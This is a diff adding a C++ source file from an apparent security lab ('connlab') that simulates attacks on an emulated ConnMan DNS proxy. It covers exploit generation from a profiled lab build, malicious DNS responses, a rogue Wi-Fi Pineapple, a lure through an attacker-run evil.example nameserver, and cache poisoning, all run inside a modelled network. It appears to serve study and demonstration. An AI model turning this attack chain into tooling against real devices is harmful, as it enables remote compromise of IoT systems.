@@ -1,0 +1,271 @@
+#include "src/attack/scenario.hpp"
+
+#include "src/dns/craft.hpp"
+#include "src/dns/record.hpp"
+#include "src/exploit/profile.hpp"
+#include "src/loader/boot.hpp"
+#include "src/net/dns_client.hpp"
+#include "src/net/pineapple.hpp"
+#include "src/net/resolver.hpp"
+#include "src/util/log.hpp"
+
+namespace connlab::attack {
+
+namespace {
+
+/// Boots the attacker's lab copy (always the vulnerable build — that is
+/// what the attacker studies) and extracts the target profile.
+util::Result<exploit::TargetProfile> LabExtract(const ScenarioConfig& config,
+                                                int* probes) {
+  CONNLAB_ASSIGN_OR_RETURN(
+      auto lab, loader::Boot(config.arch, config.prot, config.local_seed));
+  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
+  exploit::ProfileExtractor extractor(*lab, lab_proxy);
+  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
+  if (probes != nullptr) {
+    // Extraction always runs the probe loop; re-deriving the count keeps
+    // the extractor interface small.
+    *probes = static_cast<int>(lab_proxy.stats().responses);
+  }
+  return profile;
+}
+
+AttackResult BaseResult(const ScenarioConfig& config) {
+  AttackResult result;
+  result.arch = config.arch;
+  result.prot = config.prot;
+  result.version = config.version;
+  result.technique = config.technique.value_or(
+      exploit::TechniqueFor(config.arch, config.prot));
+  return result;
+}
+
+void Classify(const connman::ProxyOutcome& outcome, AttackResult* result) {
+  result->kind = outcome.kind;
+  result->detail = outcome.detail;
+  result->shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
+  result->crash = outcome.kind == connman::ProxyOutcome::Kind::kCrash;
+  result->guest_steps = outcome.stop.steps;
+}
+
+}  // namespace
+
+util::Result<AttackResult> RunControlledScenario(const ScenarioConfig& config) {
+  AttackResult result = BaseResult(config);
+
+  auto profile = LabExtract(config, &result.probes);
+  if (!profile.ok()) {
+    // e.g. stack canary present: extraction itself is defeated.
+    result.exploit_available = false;
+    result.detail = profile.status().message();
+    return result;
+  }
+
+  exploit::ExploitGenerator generator(profile.value());
+  auto image = generator.BuildImage(result.technique);
+  if (!image.ok()) {
+    result.exploit_available = false;
+    result.detail = image.status().message();
+    return result;
+  }
+  result.payload_bytes = image.value().size();
+  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels,
+                           dns::CutIntoLabels(image.value()));
+  result.labels = labels.size();
+  result.exploit_available = true;
+
+  // The victim: a different boot (fresh ASLR draw, fresh canary).
+  CONNLAB_ASSIGN_OR_RETURN(
+      auto target, loader::Boot(config.arch, config.prot, config.target_seed));
+  connman::DnsProxy proxy(*target, config.version);
+
+  dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
+  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
+  CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
+  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
+  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
+  result.response_bytes = rwire.size();
+
+  Classify(proxy.HandleServerResponse(rwire), &result);
+  return result;
+}
+
+util::Result<RemoteResult> RunPineappleScenario(const ScenarioConfig& config) {
+  RemoteResult remote;
+  remote.attack = BaseResult(config);
+
+  // --- The legitimate environment ----------------------------------------
+  net::Network network;
+  net::Radio radio;
+  net::LegitDnsServer legit_dns("192.168.1.53");
+  legit_dns.AddRecord("updates.vendor.example", "93.184.216.34");
+  legit_dns.AddRecord("time.vendor.example", "93.184.216.35");
+  network.Attach(legit_dns.ip(), &legit_dns);
+  net::AccessPoint home_ap(
+      "HomeWiFi", /*signal_dbm=*/-60,
+      net::DhcpServer("192.168.1", "192.168.1.1", legit_dns.ip()));
+  radio.AddAp(&home_ap);
+
+  // --- The victim IoT device ----------------------------------------------
+  CONNLAB_ASSIGN_OR_RETURN(
+      auto firmware, loader::Boot(config.arch, config.prot, config.target_seed));
+  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
+  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
+
+  // Sanity: resolution through the legitimate chain works.
+  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
+                           victim.Lookup(network, "updates.vendor.example"));
+  (void)txid;
+  network.DeliverAll();
+  remote.benign_resolution_before =
+      !victim.outcomes().empty() &&
+      victim.outcomes().back().kind == connman::ProxyOutcome::Kind::kParsedOk;
+
+  // --- The attacker ---------------------------------------------------------
+  auto profile = LabExtract(config, &remote.attack.probes);
+  if (!profile.ok()) {
+    remote.attack.exploit_available = false;
+    remote.attack.detail = profile.status().message();
+    return remote;
+  }
+  exploit::ExploitGenerator generator(profile.value());
+  auto image = generator.BuildImage(remote.attack.technique);
+  if (!image.ok()) {
+    remote.attack.exploit_available = false;
+    remote.attack.detail = image.status().message();
+    return remote;
+  }
+  remote.attack.payload_bytes = image.value().size();
+  remote.attack.exploit_available = true;
+
+  net::Pineapple pineapple("HomeWiFi", /*signal_dbm=*/-30);
+  pineapple.Arm(profile.value(), remote.attack.technique);
+  pineapple.PowerOn(radio, network);
+
+  // The victim roams to the stronger beacon; DHCP renumbers it onto the
+  // rogue subnet with the attacker's DNS. No config change on the device.
+  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
+  remote.roamed_to_rogue = victim.lease().dns_server == pineapple.ip();
+
+  // Its next ordinary lookup is the compromise.
+  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid2,
+                           victim.Lookup(network, "time.vendor.example"));
+  (void)txid2;
+  network.DeliverAll();
+  remote.queries_intercepted = pineapple.dns().queries_seen();
+
+  if (victim.outcomes().empty()) {
+    remote.attack.detail = "no response processed; " +
+                           pineapple.dns().last_error();
+    return remote;
+  }
+  Classify(victim.outcomes().back(), &remote.attack);
+  remote.attack.response_bytes =
+      network.log().empty() ? 0 : network.log().back().payload.size();
+  return remote;
+}
+
+util::Result<LureResult> RunLureScenario(const ScenarioConfig& config) {
+  LureResult result;
+  result.attack = BaseResult(config);
+
+  // The victim's own network: home AP + a forwarding resolver that serves
+  // the local zone and forwards anything under evil.example to its
+  // "authoritative" server — which the attacker operates.
+  net::Network network;
+  net::Radio radio;
+  net::ForwardingResolver resolver("192.168.1.53");
+  resolver.AddRecord("updates.vendor.example", "93.184.216.34");
+  network.Attach(resolver.ip(), &resolver);
+  net::AccessPoint home_ap(
+      "HomeWiFi", -60, net::DhcpServer("192.168.1", "192.168.1.1", resolver.ip()));
+  radio.AddAp(&home_ap);
+
+  CONNLAB_ASSIGN_OR_RETURN(
+      auto firmware, loader::Boot(config.arch, config.prot, config.target_seed));
+  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
+  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
+  result.on_legitimate_network = victim.lease().dns_server == resolver.ip();
+
+  // The attacker's infrastructure: the authoritative server for
+  // evil.example, armed with the exploit.
+  auto profile = LabExtract(config, &result.attack.probes);
+  if (!profile.ok()) {
+    result.attack.exploit_available = false;
+    result.attack.detail = profile.status().message();
+    return result;
+  }
+  exploit::ExploitGenerator generator(profile.value());
+  auto image = generator.BuildImage(result.attack.technique);
+  if (!image.ok()) {
+    result.attack.exploit_available = false;
+    result.attack.detail = image.status().message();
+    return result;
+  }
+  result.attack.payload_bytes = image.value().size();
+  result.attack.exploit_available = true;
+  net::FakeDnsServer evil_ns("203.0.113.66", net::FakeDnsServer::Mode::kDos);
+  evil_ns.Arm(profile.value(), result.attack.technique);
+  network.Attach(evil_ns.ip(), &evil_ns);
+  resolver.AddDelegation("evil.example", evil_ns.ip());
+
+  // The lure: some app on the device is induced to resolve the attacker's
+  // domain (a link, an ad, a tracker URL). One ordinary lookup suffices.
+  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
+                           victim.Lookup(network, "cdn.evil.example"));
+  (void)txid;
+  network.DeliverAll();
+  result.forwarded = resolver.forwarded();
+
+  if (victim.outcomes().empty()) {
+    result.attack.detail = "no response processed; " + evil_ns.last_error();
+    return result;
+  }
+  Classify(victim.outcomes().back(), &result.attack);
+  return result;
+}
+
+util::Result<PoisonResult> RunCachePoisoningScenario(const ScenarioConfig& config) {
+  PoisonResult result;
+
+  net::Network network;
+  net::Radio radio;
+  net::LegitDnsServer legit_dns("192.168.1.53");
+  legit_dns.AddRecord("c2.vendor.example", "93.184.216.34");
+  network.Attach(legit_dns.ip(), &legit_dns);
+  net::AccessPoint home_ap(
+      "HomeWiFi", -60, net::DhcpServer("192.168.1", "192.168.1.1", legit_dns.ip()));
+  radio.AddAp(&home_ap);
+
+  CONNLAB_ASSIGN_OR_RETURN(
+      auto firmware, loader::Boot(config.arch, config.prot, config.target_seed));
+  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
+  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
+
+  // The Pineapple in benign-forgery mode: spec-valid responses, attacker
+  // address. Nothing here trips even a fully patched parser.
+  net::Pineapple pineapple("HomeWiFi", -30);
+  pineapple.set_dns_mode(net::FakeDnsServer::Mode::kBenign);
+  pineapple.PowerOn(radio, network);
+  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
+  result.roamed_to_rogue = victim.lease().dns_server == pineapple.ip();
+
+  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
+                           victim.Lookup(network, "c2.vendor.example"));
+  (void)txid;
+  network.DeliverAll();
+  result.answers_forged = pineapple.dns().payloads_sent();
+
+  const auto hits =
+      victim.proxy().cache().Lookup("c2.vendor.example", victim.proxy().now() + 1);
+  for (const connman::CacheEntry& entry : hits) {
+    auto ip = dns::FormatIPv4(entry.rdata);
+    if (ip.ok()) {
+      result.victim_resolves_to = ip.value();
+      result.cache_poisoned = ip.value() != "93.184.216.34";
+    }
+  }
+  return result;
+}
+
+}  // namespace connlab::attack
